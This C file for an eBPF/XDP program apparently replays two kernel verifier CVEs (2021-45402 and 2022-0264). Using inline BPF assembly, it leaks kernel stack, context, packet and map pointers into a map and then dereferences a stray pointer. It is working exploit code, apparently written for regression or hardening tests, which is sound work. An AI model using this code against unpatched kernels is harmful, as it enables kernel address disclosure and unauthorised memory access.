// SPDX-License-Identifier: GPL-2.0
/*
 * CVEs in which a pointer got out to user space as a number. Who may load XDP
 * programs may let them out anyway (CAP_PERFMON), so nothing is forged here: the
 * instructions are those of the CVEs. What counts is what the pointers say, and
 * what they are good for: then the program goes there.
 */
#include "replay.bpf.h"

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct leaks);
} told SEC(".maps");

/*
 * By halves: what a 32-bit move leaves of a pointer was taken for a small number.
 * The upper half goes through memory.
 */
static __always_inline __u64 by_halves(struct order *o, void *pointer)
{
	__u64 low;

	*(volatile __u64 *)&o->base = (__u64)pointer;
	asm volatile("r1 = %1\n"
		     "w2 = w1\n"
		     "%0 = r2\n"
		     : "=r"(low)
		     : "r"(pointer)
		     : "r1", "r2");
	return *(volatile __u64 *)&o->base >> 32 << 32 | low;
}

/* By an atomic operation: what it fetches from where a pointer lies was a number. */
static __always_inline __u64 by_fetching(struct order *o, void *pointer)
{
	void *volatile spilled = pointer;
	__u64 number = ~0ull;

	asm volatile("%0 = atomic_fetch_and((u64 *)(%1 + 0), %0)"
		     : "+r"(number)
		     : "r"(&spilled)
		     : "memory");
	return number;
}

#define LEAK(name, way) \
	REPLAY(name) \
	{ \
		struct order *o = take_order(); \
		__u64 room[2] = {}; \
		__u32 key = 0; \
		struct leaks *l = bpf_map_lookup_elem(&told, &key); \
		void *v = bpf_map_lookup_elem(&array, &key); \
		void *lent = bpf_map_lookup_elem(&hash, &key); \
		void *packet = packet_at(ctx, 0, 64); \
		void *map = &array; \
		volatile __u64 *to; \
		if (!o || !l || !v || !lent || !packet) \
			return XDP_DROP; \
		to = l->pointer; \
		to[LEAKED_STACK] = way(o, room); \
		to[LEAKED_CONTEXT] = way(o, ctx); \
		to[LEAKED_PACKET] = way(o, packet); \
		to[LEAKED_VALUE] = way(o, v); \
		to[LEAKED_LENT] = way(o, lent); \
		to[LEAKED_MAP] = way(o, map); \
		return survived(o, *(volatile __u64 *)astray(o, v)); \
	}

LEAK(2021_45402, by_halves)
LEAK(2022_0264, by_fetching)

char _license[] SEC("license") = "GPL";
